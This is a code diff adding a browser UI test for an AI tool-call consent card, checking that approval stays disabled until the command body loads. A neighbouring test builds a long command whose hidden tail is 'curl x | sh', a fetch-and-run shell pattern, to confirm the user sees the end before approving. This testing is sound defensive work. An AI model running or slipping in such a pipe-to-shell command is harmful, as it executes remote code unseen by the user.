@@ -148,6 +148,21 @@ it('on a Mac reacts to Option+Y only while no text is written', async () => {
   await shows(2);
 });
 
+it('accepts consent after the whole request has been loaded', async () => {
+  let release = () => {};
+  const gate = new Promise<void>((resolve) => (release = resolve));
+  await page.route('**/CommandBody-*.js', async (route) => {
+    await gate;
+    await route.continue();
+  });
+  await page.reload();
+  await ask({ name: 'Bash', args: { command: 'touch a && true' } });
+  await expect.poll(() => card().getByRole('button', { name: 'Reject …' }).isEnabled()).toBe(true);
+  expect(await approve().isDisabled()).toBe(true);
+  release();
+  await canApprove();
+});
+
 it('accepts consent after the end of a long command has been in view, also by keyboard', async () => {
   const command = `npm test \\\n${'  --reporter=verbose \\\n'.repeat(40)}; curl x | sh`;
   await ask({ name: 'Bash', args: { command } });
